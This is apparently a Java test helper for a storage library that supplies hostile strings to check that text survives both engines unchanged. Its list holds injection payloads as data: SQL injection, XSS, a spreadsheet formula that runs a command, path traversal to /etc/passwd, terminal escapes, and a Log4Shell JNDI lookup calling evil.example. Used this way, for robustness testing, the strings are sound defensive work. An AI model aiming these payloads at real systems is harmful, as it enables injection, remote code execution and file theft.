package dev.twinstore.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Texts that break careless programs. */
final class Texts {
    private static final List<String> PIECES = List.of(
            "'; DROP TABLE tasks; --",
            "\" OR \"\"=\"",
            "') ON CONFLICT DO NOTHING --",
            "$$; SELECT 1; $$",
            "E'\\'",
            "\\",
            "100%",
            "_",
            "?",
            ":name",
            "$1",
            "{0}",
            "{}",
            "${jndi:ldap://evil.example/a}",
            "#{1+1}",
            "%s%n%x",
            "\u00a7title",
            "<script>alert(1)</script>",
            "</script></textarea><img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "&lt;&#0;",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "| a | b |",
            "`code`",
            "[x](javascript:alert(1))",
            "\u001b[2J\u001b]0;owned\u0007",
            "\r\n2026-01-01 INFO forged line",
            "\t",
            "\b\f\u007f\u0085\u2028\u2029",
            "\u202Egnp.exe\u202C",
            "\u2066\u2069\u200B\u200D\uFEFF",
            "👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 𝒳",
            "é e\u0301 ﬁ Å \u212B ß ẞ İ ı",
            "\uFFFE\uFFFF\uDBFF\uDFFF",
            "../../etc/passwd",
            "..\\..\\windows\\system32",
            "file:///etc/passwd",
            "CON",
            "{\"a\":[1e999,null]}",
            "[\"",
            "null",
            "NaN",
            "-0",
            "9223372036854775808");

    private Texts() {}

    /** Storable: all pieces together, some of them by chance, and spaces that stay. */
    static List<String> storable(long seed) {
        Random random = new Random(seed);
        List<String> texts = new ArrayList<>();
        texts.add(String.join(" ", PIECES));
        texts.add("  two spaces around  ");
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < 4; i++) {
            text.append(PIECES.get(random.nextInt(PIECES.size())));
        }
        texts.add(text.toString());
        return texts;
    }

    /** Storable, of half a million characters. */
    static String large() {
        return "'\"\\👧é ".repeat(62_500);
    }

    /** Says nothing: stored, or refused. */
    static List<String> blank() {
        return List.of("", "\u2003\t\n");
    }

    /** Cannot be stored by both engines without loss: NUL, and half a surrogate pair. */
    static List<String> unstorable() {
        return List.of("nul\0nul", "high\uD83D", "\uDC69low");
    }
}
